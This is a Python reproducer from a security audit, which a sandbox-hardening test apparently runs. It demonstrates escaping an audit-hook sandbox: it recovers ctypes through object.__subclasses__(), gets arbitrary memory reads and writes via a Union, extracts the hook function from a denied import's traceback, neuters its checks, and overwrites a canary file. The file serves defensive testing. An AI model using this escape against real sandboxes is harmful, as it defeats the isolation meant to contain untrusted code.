# The audit's reproducer (not a test module: test_sandbox_hardening.py runs it in the sandbox, $canary
# replaced): it found ctypes through object.__subclasses__(), walked a denial's traceback to the
# frame of the audit hook, read the hook function out of it with native memory reads and replaced
# its defaults with no-op checks; then it wrote outside the folder.
import struct, sys
KEEP = []
def subclasses(c, seen):
    for s in type.__subclasses__(c):
        if s not in seen:
            seen.add(s); subclasses(s, seen)
    return seen
CDLL = next(c for c in subclasses(object, set()) if c.__module__ == "ctypes" and c.__name__ == "CDLL")
C = CDLL.__init__.__globals__          # the ctypes module namespace, left alive by _kernel.py
class U(C["Union"]):                    # type punning: an address field and a pointer field share memory
    _fields_ = [("a", C["c_void_p"]), ("p", C["POINTER"](C["c_char"] * 8)), ("o", C["py_object"])]
def mem(addr, n=8):                     # arbitrary memory read/write; raises no ctypes.cdata event
    u = U(); u.a = addr
    return u.p.contents
def q(addr): return struct.unpack("<Q", bytes(mem(addr, 8)))[0]
def obj(addr):
    u = U(); u.a = addr; KEEP.append(u); return u.o
try:
    import socket                       # denied: the traceback holds the hook's own frame
except PermissionError as e:
    tb = e.__traceback__
frames = []
while tb: frames.append(tb.tb_frame); tb = tb.tb_next
hf = next(f for f in frames if f.f_code.co_name == "hook")
hook = obj(q(q(id(hf) + 24)))           # PyFrameObject.f_frame -> _PyInterpreterFrame.f_func (3.11)
KEEP.append(hook)
d = list(hook.__defaults__)
names = hook.__code__.co_varnames[2:2 + len(d)]
print("hook found:", hook.__name__, names)
new = dict(zip(names, d), _on_open=lambda a: None, _on_connect=lambda a: None, _deny=frozenset(), _blocked=frozenset(),
           _writes=frozenset(), _reads=frozenset(), _links=frozenset())
hook.__defaults__ = tuple(new[n] for n in names)
open("$canary", "w").write("pwned by sandboxed code")
print("canary overwritten")
